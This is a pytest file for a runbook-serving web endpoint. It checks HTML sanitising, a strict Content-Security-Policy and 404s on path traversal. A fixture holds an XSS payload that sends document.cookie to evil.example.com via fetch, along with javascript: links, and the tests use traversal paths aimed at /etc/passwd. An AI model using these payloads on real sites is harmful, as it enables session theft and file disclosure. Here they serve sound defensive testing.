"""GET /runbooks/ and /runbooks/<name>: the repository's runbooks as sanitised HTML under a
Content-Security-Policy that allows no script, 404 for anything that is not a runbook."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from tests.conftest import ROOT, RouterClient

EVIL = """\
# Cache flush

Run `redis-cli FLUSHALL` on the **replica** only.

<script>fetch('https://evil.example.com/?c=' + document.cookie)</script>

[Open the console](javascript:alert(document.domain))
<a href="javascript:alert(1)" onclick="alert(2)">Status</a>
"""


async def client_with_runbooks(router_client: RouterClient, tmp_path: Path) -> Any:
    books = tmp_path / "books"
    books.mkdir()
    (books / "cache-flush.md").write_text(EVIL)
    (books / "api-high-error-rate.md").write_text(
        (ROOT / "runbooks" / "api-high-error-rate.md").read_text())
    (tmp_path / "secret.md").write_text("# Secret\n")
    return await router_client({"runbooks_dir": str(books)})


async def test_a_runbook_is_served_as_html_with_a_strict_csp(
    router_client: RouterClient, tmp_path: Path
) -> None:
    client = await client_with_runbooks(router_client, tmp_path)
    resp = await client.get("/runbooks/api-high-error-rate")
    assert resp.status == 200
    assert resp.content_type == "text/html"
    csp = resp.headers["Content-Security-Policy"]
    assert "default-src 'none'" in csp and "script-src" not in csp
    assert "'unsafe-inline'" not in csp and "frame-ancestors 'none'" in csp
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    html = await resp.text()
    assert "<title>API High Error Rate · runbooks</title>" in html
    assert "<h1>API High Error Rate</h1>" in html
    assert "<h2>4. Roll back</h2>" in html
    assert "<pre><code>kubectl rollout undo deployment/api -n production" in html
    assert "<script" not in html


async def test_script_and_javascript_links_in_a_runbook_are_removed(
    router_client: RouterClient, tmp_path: Path
) -> None:
    client = await client_with_runbooks(router_client, tmp_path)
    resp = await client.get("/runbooks/cache-flush")
    assert resp.status == 200
    html = await resp.text()
    assert "<h1>Cache flush</h1>" in html
    assert "<code>redis-cli FLUSHALL</code>" in html
    for bad in ("<script", "document.cookie", "evil.example.com", 'href="javascript:',
                "onclick"):
        assert bad not in html, bad


async def test_the_list_names_every_runbook_by_title(
    router_client: RouterClient, tmp_path: Path
) -> None:
    client = await client_with_runbooks(router_client, tmp_path)
    resp = await client.get("/runbooks/")
    assert resp.status == 200
    html = await resp.text()
    assert ('<li><a href="/runbooks/api-high-error-rate">API High Error Rate</a> '
            "<code>api-high-error-rate</code></li>") in html
    assert '<a href="/runbooks/cache-flush">Cache flush</a>' in html
    assert "Secret" not in html
    resp = await client.get("/runbooks", allow_redirects=False)
    assert resp.status == 301 and resp.headers["Location"] == "/runbooks/"


async def test_unknown_names_and_path_traversal_are_404(
    router_client: RouterClient, tmp_path: Path
) -> None:
    client = await client_with_runbooks(router_client, tmp_path)
    for path in ("/runbooks/nope", "/runbooks/..%2Fsecret", "/runbooks/..%2F..%2Fetc%2Fpasswd",
                 "/runbooks/cache-flush.md", "/runbooks/..%2Fetc"):
        resp = await client.get(path)
        assert resp.status == 404, path
        html = await resp.text()
        assert "No such runbook" in html and "Secret" not in html and "root:" not in html, path
        assert "default-src 'none'" in resp.headers["Content-Security-Policy"]
    # Dot segments are removed before routing: /runbooks/%2E%2E is /, not a runbook.
    resp = await client.get("/runbooks/%2E%2E")
    assert resp.status == 404 and "Secret" not in await resp.text()


async def test_no_runbooks_dir_lists_none(router_client: RouterClient, tmp_path: Path) -> None:
    # Rules that link no runbook load without the directory.
    rules = tmp_path / "rules"
    rules.mkdir()
    client = await router_client({"rules_dir": str(rules),
                                  "runbooks_dir": str(tmp_path / "missing")})
    html = await (await client.get("/runbooks/")).text()
    assert "No runbooks" in html
    assert (await client.get("/runbooks/api-high-error-rate")).status == 404
